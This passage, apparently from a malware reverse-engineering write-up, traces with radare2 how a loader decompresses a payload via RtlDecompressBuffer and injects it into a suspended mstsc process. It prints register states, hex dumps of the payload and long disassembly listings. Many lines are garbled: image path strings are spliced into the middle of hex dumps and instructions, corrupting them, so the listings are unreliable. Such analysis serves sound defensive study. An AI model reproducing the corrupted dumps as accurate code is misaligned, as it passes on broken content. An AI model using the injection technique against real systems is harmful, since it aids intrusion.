But nothing of interestm just a few bytes. We hit that three more times with the same result, and then we hit RtlDecompressBuffer

hit breakpoint at: 0x772da720
[0x772da720]> pxr @ esp
0x0019f130 0x00714283  .Bq. @ esp PRIVATE  R W X 'mov eax, dword [ebp - 0xd8]' 'PRIVATE '
0x0019f134 0x00000002  .... 2
0x0019f138 0x0078f270  p.x. PRIVATE  edx R W 0x0
0x0019f13c 0x00014e94  .N.. MAPPED  ecx R W 0x0
0x0019f140 0x00714f0b  .Oq. PRIVATE  eax R W X 'add edi, dword [ebx - 0xe74aa00]' 'PRIVATE '
0x0019f144 0x000053a5  .S.. 21413
0x0019f148 0x0019fa60  `... PRIVATE  R W 0x53a5
0x0019f14c 0x00508508  ..P. IMAGE  .data esi R W 0x0
0x0019f150 0x003a0043  C.:. PRIVATE  ascii ('C')

We see an empty buffer as well as something that looks like a compressed PE:

[0x772da720]> pxw @ 0x0078f270
0x0078f270  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f280  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f290  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f2a0  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f2b0  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f2c0  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f2d0  0x00000000 0x00000000 0x00000000 0x00000000  ................0x0078f2e0  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f2f0  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f300  0x00000000 0x000000000x00000000 0x00000000  ................
0x0078f310  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f320  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f330  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f340  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f350  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x0078f360  0x00000000 0x00000000 0x00000000 0x00000000  ................
[0x772da720]> pxw @ 0x00714f0b
0x00714f0b  0x5600bb03 0x48e8f18b 0x00000003 0x00800068  ...V...H....h...
0x00714f1b  0x56006a00 0xf5ddba00 0xc88bcd53 0x00d400e8  .j.V....S.......
0x00714f2b  0xd0ff0000 0x5500c35e 0x5756ec8b 0x088bf28b  ....^..U..VW....
0x00714f3b  0x0022e8f9 0x03d0ba94 0x00090a5c 0x7400b674  ..".....\...t..t
0x00714f4b  0x75ff006a 0x75ff0c00 0xff575608 0x5e5f60d0  j..u...u.VW..`_^
0x00714f5b  0x02ccc35d 0xf89e0100 0x52000242 0xb09315f4  ].......B..R....
0x00714f6b  0x5d8c5200 0x01565200 0x023c0390 0x3e01d83e  .R.].RV...<.>..>
0x00714f7b  0xfb41e865 0x6c3e00a7 0x21074902 0xb2426f07  e.A...>l.I.!.oB.
0x00714f8b  0x5c782501 0x2500553b 0x2502c546 0x00a20068  .%x\;U.%F..%h...
0x00714f9b  0x7801036a 0x01457506 0x2901884f 0x01ce0d4a  j..x.uE.O..)J...
0x00714fab  0x01e11c99 0x00680422 0x00760030 0x43780728  ....".h.0.v.(.xC
0x00714fbb  0x5f000004 0x530cec83 0x00f96300 0xb8fc5589  ..._...S.c...U..
0x00714fcb  0x00005a4d 0x073966000x478b5475 0xc703003c  MZ...f9.uT.G<...
0x00714fdb  0x45503881 0x75200000 0x014cb947 0x04480b01  .8PE.. uG.L...H.
0x00714feb  0x8b3c7500 0x4d897848 0xc98500f4 0x78833274  .u<.Hx.M....t2.x
0x00714ffb  0x76000074 0x74cf032c 0x00418b28 0x8bf63320  t..v,..t(.A. 3..

After the call, we can inspect the decompressed buffer in that position in memory:

[0x772da720]> dcr
hit breakpoint at: 0x772da762
hit breakpoint at: 0x772da764
[0x772da76d]> pxw @ 0x0078f270
0x0078f270  0xe8f18b56 0x00000348 0x00800068 0x56006a00  V...H...h....j.V
0x0078f280  0x53f5ddba 0xe8c88bcd 0x000000d4 0xc35ed0ff  ...S..........^.
0x0078f290  0x56ec8b55 0x8bf28b57 0x0322e8f9 0xd0ba0000  U..VW.....".....
0x0078f2a0  0x8b095c03 0x00b6e8c8 0x006a0000 0xff0c75ff  .\........j..u..
0x0078f2b0  0x57560875 0x5e5fd0ff 0xccccc35d 0xcccccccc  u.VW.._^].......
0x0078f2c0  0xe8f18b56 0x000002f8 0x9315f4ba 0xe8c88bb0  V...............0x0078f2d0  0x0000008c 0x5ed0ff56 0xccccccc3 0xcccccccc  ....V..^........
0x0078f2e0  0xe8f18b56 0x000002d8 0xfb4165ba 0xe8c88ba7  V........eA.....
0x0078f2f0  0x0000006c 0xff56006a 0xccc35ed0 0xcccccccc  l...j.V..^......
0x0078f300  0x56ec8b55 0x8bf28b57 0x02b2e8f9 0x78ba0000  U..VW..........x
0x0078f310  0x8b553b5c 0x0046e8c8 0x006a0000 0x00008068  \;U...F...j.h...
0x0078f320  0x6a036a00 0x0875ff00 0xd0ff5756 0xc35d5e5f  .j.j..u.VW.._^].
0x0078f330  0xe8f18b56 0x00000288 0xce0d4aba 0xe8c88b09  V........J......
0x0078f340  0x0000001c 0x0068046a 0x56000030 0xd0ff006a  ....j.h.0..Vj...
0x0078f350  0xccccc35e 0xcccccccc 0xcccccccc 0xcccccccc  ^...............
0x0078f360  0x83ec8b55 0x56530cec 0x89f98b57 0x4db8fc55  U.....SVW...U..M
[0x772da76d]> pd 80 @ 0x0078f270
            0x0078f270      56             push esi
            0x0078f271      8bf1           mov esi, ecx
            0x0078f273      e848030000     call 0x78f5c0
            0x0078f278      6800800000     push 0x8000
            0x0078f27d      6a00           push 0
            0x0078f27f      56             push esi
            0x0078f280      baddf553cd     mov edx, 0xcd53f5dd
            0x0078f285      8bc8           mov ecx, eax
            0x0078f287      e8d4000000     call 0x78f360
            0x0078f28c      ffd0           call eax
            0x0078f28e5e             pop esi
            0x0078f28f      c3             ret

And it corresponds to executable code, so we may have identified a payload.

After returning from that call, we’ll see that no more NtWriteVirtualMemory nor NtResumeThread are getting call though we see debug messages and we see a thread being spawned on the mstsc process and the loading completed…

So we go check and inspect what happens after we return from RtlDecompressBuffer.

We’ll see a bunch of calls like that:

[0x00714283]> pd 80
            ;-- eip:
            0x00714283      8b8528ffffff   mov eax, dword [ebp - 0xd8]
            0x00714289      898568ffffff   mov dword [ebp - 0x98], eax0x0071428f      c745a8000000.  mov dword [ebp - 0x58], 0
            0x00714296      c745ac000000.  mov dword [ebp - 0x54], 0
            0x0071429d      c78558fcffff.  movdword [ebp - 0x3a8], 0
            0x007142a7      8b8d40feffff   mov ecx, dword [ebp - 0x1c0]
            0x007142ad      51             push ecx
            0x007142ae      e86df0ffff     call 0x713320
            0x007142b3      83c404         add esp, 4
            0x007142b6      89853cfeffff   mov dword [ebp - 0x1c4], eax
            0x007142bc      8b953cfeffff   mov edx, dword [ebp - 0x1c4]
            0x007142c2      8b4580         mov eax, dword [ebp - 0x80]
            0x007142c5      8d8c504e1000.  lea ecx, [eax + edx*2 + 0x104e]
            0x007142cc      33d2           xor edx, edx
            0x007142ce      898dc4fdffff   mov dword [ebp - 0x23c], ecx
            0x007142d4      8995c8fdffff   mov dword [ebp - 0x238], edx
            0x007142da      8b45c0         mov eax, dword [ebp - 0x40]
            0x007142dd      99             cdq
            0x007142de      8985a8fcffff   mov dword [ebp - 0x358], eax
            0x007142e4      8995acfcffff   mov dword [ebp - 0x354], edx
            0x007142ea      8d45a8         lea eax, [ebp - 0x58]0x007142ed      99             cdq
            0x007142ee      8985b0fcffff   mov dword [ebp - 0x350], eax
            0x007142f4      8995b4fcffff   mov dword [ebp - 0x34c], edx
            0x007142fa      c785b8fcffff.  mov dword [ebp - 0x348], 0
            0x00714304      c785bcfcffff.  mov dword [ebp - 0x344], 0
            0x0071430e      8d85c4fdffff   lea eax, [ebp - 0x23c]
            0x00714314      99cdq
            0x00714315      8985c0fcffff   mov dw

In what seems to be a process of argument parsing and loading, decoding and calling to custom implemented functions:

So we place some breakpoints before and after the calls we are seeing, to check their parameters and output:

[0x00714283]> db 0x007144ca
[0x00714283]> db 0x007144f8
[0x00714283]> db 0x0071448a

And after some, we’ll see a call, inspecting its parameters we will identify the handle to the remote mstsc suspended process:

[0x007144cf]> pd 20
            ;-- eip:
            0x007144cf      83c408         add esp, 8
            0x007144d2      8b4dd4         mov ecx, dword [ebp - 0x2c]
            0x007144d5      51             push ecx
            0x007144d6      8b55d8         mov edx, dword [ebp - 0x28]
            0x007144d9      52             push edx
            0x007144da      8b4508         mov eax, dword [ebp + 8]
            0x007144dd      50             push eax
            0x007144de      8b4de8         mov ecx, dword [ebp - 0x18]
            0x007144e1      51             push ecx0x007144e2      8b5580         mov edx, dword [ebp - 0x80]
            0x007144e5      52             push edx
            0x007144e6      8b8568ffffff   mov eax, dword[ebp - 0x98]
            0x007144ec      50             push eax
            0x007144ed      8b8d20ffffff   mov ecx, dword [ebp - 0xe0]
            0x007144f3      51             push ecx
            0x007144f4      8b55c0         mov edx, dword [ebp - 0x40]
            0x007144f7      52             push edx
            0x007144f8 b    e8f3080000     call 0x714df0
            0x007144fd      83c420         add esp, 0x200x00714500      898564ffffff   mov dword [ebp - 0x9c], eax
[0x007144cf]> dc
hit breakpoint at: 0x7144f8
[0x007144cf]> pxr @ esp
0x0019f12c 0x0000031c  .... @ esp 796 edx ; process handle
0x0019f130 0x0066006c  l.f. MAPPED  ecx ascii ('l') R 0x1740000
0x0019f134 0x0078f270  p.x. PRIVATE  eax R W 0xe8f18b56
0x0019f138 0x00007924  $y.. 31012 ascii ('$')
0x0019f13c 0x00000001  .... 1
0x0019f140 0x0019fb14  .... PRIVATE  R W 0x19fb30
0x0019f144 0x043a2d70  p-:. IMAGE  R X 'mov eax, 0x3a' 'IMAGE '
0x0019f148 0x0000003a  :... 58 ascii (':')
0x0019f14c 0x00508508  ..P.IMAGE  .data R W 0x0

As well as a reference to a buffer, which clearly corresponds to executable code.

If we follow the call and we dive deeper we’ll see some argument loading and a reference to another call:

[0x00714df0]> pd 90
            ;-- eip:
            0x00714df0      55             push ebp
            0x00714df1      8bec           mov ebp, esp
            0x00714df3      83ec58         sub esp, 0x58
            0x00714df6      8b450c         mov eax, dword [ebp + 0xc]
            0x00714df9      33c9           xor ecx, ecx
            0x00714dfb      8945f0         mov dword [ebp - 0x10], eax
            0x00714dfe      894df4         mov dword [ebp - 0xc], ecx
            0x00714e01      8b5514         mov edx, dword [ebp + 0x14]
            0x00714e04      33c0           xor eax, eax
            0x00714e06      8955d8         mov dword [ebp - 0x28], edx
            0x00714e09      8945dc         mov dword [ebp - 0x24], eax
            0x00714e0c      8b4510         mov eax, dword [ebp + 0x10]
            0x00714e0f      99             cdq
            0x00714e10      8945e0         mov dword [ebp - 0x20], eax
            0x00714e13      8955e4         mov dword [ebp - 0x1c], edx
            0x00714e16      8b4508         mov eax, dword [ebp + 8]
            0x00714e19      99             cdq
            0x00714e1a8945e8         mov dword [ebp - 0x18], eax
            0x00714e1d      8955ec         mov dword [ebp - 0x14], edx
            0x00714e20      c745fc000000.  mov dword [ebp - 4], 0
            0x00714e27      8b4de8         mov ecx, dword [ebp - 0x18]
            0x00714e2a      894da8         mov dword [ebp - 0x58], ecx
            0x00714e2d      8b55ec         mov edx, dword [ebp - 0x14]
            0x00714e30      8955ac         mov dword [ebp - 0x54], edx
            0x00714e33      8b45f0         mov eax, dword [ebp - 0x10]
            0x00714e36      8945b0         mov dword [ebp - 0x50], eax
            0x00714e39      8b4df4         mov ecx, dword [ebp - 0xc]
            0x00714e3c      894db4         mov dword [ebp - 0x4c], ecx
            0x00714e3f      8b55e0         mov edx, dword [ebp - 0x20]
            0x00714e42      8955b8         mov dword [ebp - 0x48], edx
            0x00714e45      8b45e4         mov eax, dword [ebp - 0x1c]
            0x00714e48      8945bc         mov dword [ebp - 0x44], eax
            0x00714e4b      8b4dd8         mov ecx, dword [ebp - 0x28]
            0x00714e4e      894dc0         mov dword [ebp - 0x40], ecx
            0x00714e51      8b55dc         mov edx,dword [ebp - 0x24]
            0x00714e54      8955c4         mov dword [ebp - 0x3c], edx
            0x00714e57      8d45d0         lea eax, [ebp - 0x30]
            0x00714e5a      99             cdq
            0x00714e5b      8945c8         mov dword [ebp - 0x38], eax
            0x00714e5e      8955cc         mov dword [ebp - 0x34], edx
            0x00714e61      837d1800       cmp dword [ebp + 0x18], 0
        ,=< 0x00714e65      741d           je 0x714e84
        |   0x00714e67      8b4524mov eax, dword [ebp + 0x24]
        |   0x00714e6a      8945f8         mov dword [ebp - 8], eax
        |   0x00714e6d      6a05           push 5                      ; 5
        |   0x00714e6f      8d4da8         lea ecx, [ebp - 0x58]
        |   0x00714e72      51             push ecx
        |   0x00714e73      8b55f8         mov edx, dword [ebp - 8]
